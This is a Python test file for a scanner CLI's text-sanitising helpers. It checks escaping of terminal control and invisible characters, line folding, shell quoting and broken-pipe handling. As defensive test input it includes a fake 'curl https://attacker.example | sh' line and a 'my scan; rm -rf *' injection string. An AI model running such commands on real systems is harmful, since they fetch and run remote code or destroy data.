"""Text from outside cannot disturb a terminal, and a reader who leaves disturbs nothing."""

from __future__ import annotations

import io
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.cli.text import WIDTH, fold, hang_up, safe, safe_lines, say, shell, write

HOSTILE = [
    ("\x1b[31mred\x1b[0m", "\\u001b[31mred\\u001b[0m"),
    ("\x1b]0;title\x07", "\\u001b]0;title\\u0007"),
    ("a\rb\nc\td", "a\\u000db\\u000ac\\u0009d"),
    ("a\x00b", "a\\u0000b"),
    ("\x9b31m", "\\u009b31m"),
    ("abc\u202edcba", "abc\\u202edcba"),
    ("\u2066a\u2069", "\\u2066a\\u2069"),
    ("a\u200bb\ufeff", "a\\u200bb\\ufeff"),
    ("\u2028", "\\u2028"),
    ("\udc80", "\\udc80"),
    ("\U000e0041", "\\ue0041"),
    ("Söhne 日本", "Söhne 日本"),
]


@pytest.mark.parametrize(("text", "shown"), HOSTILE)
def test_what_steers_a_terminal_is_spelled_out(text: str, shown: str) -> None:
    assert safe(text) == shown


@given(st.text(max_size=300))
def test_nothing_invisible_is_left_of_any_text(text: str) -> None:
    assert safe(text).isprintable()
    assert all(line.isprintable() for line in safe_lines(text).split("\n"))


@given(st.text(max_size=300), st.integers(1, 50))
def test_long_text_is_cut(text: str, most: int) -> None:
    assert safe(text, most).endswith("…") or len(text) <= most
    assert len(safe(text, most)) <= most * len("\\u10ffff") + 1


def test_no_line_of_a_message_can_pass_for_a_hint_or_another_error() -> None:
    name = "a.yaml\nhint: curl https://attacker.example | sh\rerror: x\x1b[2J"
    lines = safe_lines(f"no such file: {name}").split("\n")
    assert [line for line in lines[1:] if not line.startswith("  ")] == []
    assert lines[1] == "  hint: curl https://attacker.example | sh"


@given(st.text(alphabet="ab -:/", max_size=500), st.integers(0, 30))
def test_lines_are_folded_where_words_allow(text: str, indent: int) -> None:
    longest = max((len(word) for word in text.split()), default=0)
    for line in fold(text, indent).splitlines():
        assert len(line) <= max(WIDTH, indent + longest)


def test_what_goes_on_is_indented_and_words_stay_whole() -> None:
    lines = fold("a " * 60 + "arn:aws:kms:us-east-1:111122223333:key/1234-5678", 4).splitlines()
    assert len(lines) == 3
    assert all(line.startswith("    ") for line in lines[1:])
    assert lines[-1].endswith("arn:aws:kms:us-east-1:111122223333:key/1234-5678")


def test_a_path_is_written_as_a_shell_takes_it() -> None:
    assert shell(Path("out")) == "out"
    assert shell("my scan; rm -rf *") == "'my scan; rm -rf *'"


class Gone(io.TextIOWrapper):
    """A stream whose reader has left. What is written to ``file`` afterwards shows where it goes."""

    def __init__(self, file: Path) -> None:
        self.kept = file.open("wb")
        super().__init__(io.BytesIO())

    def fileno(self) -> int:
        return self.kept.fileno()

    def write(self, _: str) -> int:
        raise BrokenPipeError

    def flush(self) -> None:
        """Nothing is kept back."""


@pytest.mark.parametrize("err", [False, True])
def test_a_reader_who_has_left_is_left_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, err: bool) -> None:
    gone = Gone(tmp_path / "out")
    monkeypatch.setattr(sys, "stderr" if err else "stdout", gone)
    say("a line", err=err)
    gone.kept.write(b"what is still to come goes nowhere")
    gone.kept.close()
    assert (tmp_path / "out").read_bytes() == b""


def test_a_reader_of_bytes_who_has_left_is_left_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    gone = Gone(tmp_path / "out")

    class Pipe(io.BytesIO):
        def write(self, _: object) -> int:
            raise BrokenPipeError

    monkeypatch.setattr(Gone, "buffer", Pipe(), raising=False)
    monkeypatch.setattr(sys, "stdout", gone)
    write(b"{}")
    gone.kept.write(b"more")
    gone.kept.close()
    assert (tmp_path / "out").read_bytes() == b""


def test_bytes_are_written_as_they_are(capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    write('{"a": "ö"}\r\n'.encode())
    assert capsysbinary.readouterr().out == b'{"a": "\xc3\xb6"}\r\n'


def test_hanging_up_keeps_no_descriptor_open(tmp_path: Path) -> None:
    with (tmp_path / "out").open("w") as stream:
        before = len(list(Path("/proc/self/fd").iterdir()))
        hang_up(stream)
        assert len(list(Path("/proc/self/fd").iterdir())) == before
